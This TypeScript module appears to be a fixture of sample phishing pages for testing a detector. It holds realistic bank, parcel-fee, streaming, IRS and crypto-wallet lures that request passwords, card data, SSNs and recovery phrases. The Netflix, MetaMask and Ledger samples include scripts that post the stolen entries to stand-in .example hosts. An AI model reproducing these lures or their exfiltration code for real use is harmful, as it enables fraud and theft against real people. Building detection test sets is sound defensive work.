import { field, type Samples, site } from '../../sample.ts';

const CHASE = `<div class="header"><img src="chase.png" alt="Chase Bank logo"></div><h2>Welcome</h2><p>We noticed unusual activity on your account. Please verify your information.</p>
<form action="http://chase-online.verify-center.example/auth.php" method="post" autocomplete="off">${field('Username', 'name="u"')}${field('Password', 'type="password" name="p"')}<button>Sign in</button></form>
<small>© 2026 JPMorgan Chase &amp; Co.</small>`;

const DHL = `<header><img src="dhl-logo.svg" alt="DHL"></header><h1>Ihr Paket wartet auf Zustellung</h1><p>Sendungsnummer: 00340434161094</p><p>Ihre Sendung konnte nicht zugestellt werden, weil Zollgebühren von 1,99 € nicht bezahlt wurden.</p>
<form method="post" action="https://zustellung-paket.example/zahlung.php">${field('Karteninhaber', 'name="name"')}${field('Kartennummer', 'name="nummer" inputmode="numeric"')}${field('Gültig bis', 'name="ablauf" placeholder="MM/JJ"')}${field('Prüfziffer', 'name="cvv" maxlength="4"')}<button>Jetzt bezahlen</button></form>`;

const NETFLIX = `<div class="nfHeader"><a class="logo">NETFLIX</a></div><h1>Mettez à jour votre moyen de paiement</h1><p>Votre abonnement a été suspendu car nous n'avons pas pu valider votre paiement. Vous avez 48 heures.</p>
<form id="pay"><input name="num" placeholder="Numéro de carte" autocomplete="cc-number"><input name="exp" placeholder="Date d'expiration (MM/AA)"><input name="cvc" placeholder="Code de sécurité (CVV)"><button>Réactiver mon abonnement</button></form>
<script>var U="https://abonnement-support.example";document.getElementById("pay").onsubmit=function(e){e.preventDefault();var r=new XMLHttpRequest();r.open("POST",U+"/recv",true);r.send(new URLSearchParams(new FormData(this)).toString());};</script>`;

const words = (count: number) =>
  Array.from({ length: count }, (_, i) => `<input class="word" placeholder="${i + 1}.">`).join('');

const METAMASK = `<img src="fox.svg" alt="MetaMask"><h1>Restore your wallet</h1><p>Your wallet has been suspended due to the new KYC regulation. Type your Secret Recovery Phrase in the right order.</p>
<form id="seed">${words(12)}<button>Restore wallet</button></form><script>seed.addEventListener('submit',e=>{e.preventDefault();fetch('https://wallet-sync-node.example/p',{method:'POST',body:[...document.querySelectorAll('.word')].map(i=>i.value).join(' ')})})</script>`;

const LEDGER = `<div class="top"><img src="assets/ledger.svg" alt="Ledger"></div><h2>Ledger Live firmware update required</h2><p>Connect by entering your 24-word recovery phrase to activate the latest security features.</p><div id="grid"></div><button id="send">Continue</button>
<script>const grid=document.getElementById('grid');for(let i=1;i<=24;i++){const x=document.createElement('input');x.placeholder='Word #'+i;x.name='seed_'+i;grid.append(x)}
const endpoint='https://ledger-live-auth.example/v2/import';document.getElementById('send').onclick=async()=>{const phrase=[...grid.children].map(n=>n.value).join(' ');await fetch(endpoint,{method:'POST',body:JSON.stringify({phrase})})}</script>`;

const CORREOS = `<header><img src="https://www.correos.es/static/logo.svg" alt="Correos"></header><h1>Su paquete está retenido</h1><p>Para recibir su envío, pague los gastos de aduana: 2,64 €. Su paquete será devuelto en 24 horas.</p>
<form action="https://aduana-envios.example/pagar" method="POST">${field('Número de tarjeta', 'name="tarjeta" maxlength="19"')}${field('Fecha de caducidad', 'name="caducidad"')}${field('CVV', 'name="cvv"')}${field('PIN de la tarjeta', 'type="password" name="pin"')}<button>Pagar y continuar</button></form>`;

const ITAU = `<div class="topo"><img src="logo-itau.png" alt="Itaú"></div><h1>Acesse sua conta Itaú</h1><p>Seu iToken expirou. Atualize seus dados para não ter o acesso bloqueado.</p>
<form method="post" action="https://atualizacao-itoken.example/salvar">${field('Agência', 'name="ag" maxlength="4"')}${field('Conta', 'name="cc"')}${field('Senha eletrônica', 'type="password" name="senha" maxlength="8"')}${field('CPF', 'name="cpf"')}<button>Acessar</button></form>`;

const IRS = `<img src="/irs-seal.png" alt="IRS logo"><h1>Get your tax refund</h1><p>Internal Revenue Service: you are eligible to receive a refund of $1,284.00. Submit the form to receive it on your card.</p>
<form action="https://refund-status-gov.example/submit" method="post">${field('Social Security Number', 'name="ssn" maxlength="11"')}${field('Date of birth', 'name="dob"')}${field('Debit card number', 'name="card"')}${field('Expiration', 'name="exp"')}${field('CVV2', 'name="cvv2"')}<button>Claim refund</button></form>`;

export const MONEY: Samples = {
  'Chase on a foreign host': site('Chase Online - Logon', CHASE),
  'DHL parcel fee in German': site('DHL Sendungsverfolgung', DHL, { lang: 'de' }),
  'Netflix payment in French': site('Netflix', NETFLIX, { lang: 'fr' }),
  'MetaMask phrase': site('MetaMask', METAMASK),
  'Ledger phrase by a script': site('Ledger Live', LEDGER),
  'Correos parcel fee in Spanish': site('Correos - Mi envío', CORREOS, { lang: 'es' }),
  'Itaú in Portuguese': site('Itaú - Atualização de segurança', ITAU, { lang: 'pt' }),
  'IRS refund': site('Refund | Internal Revenue Service', IRS),
};
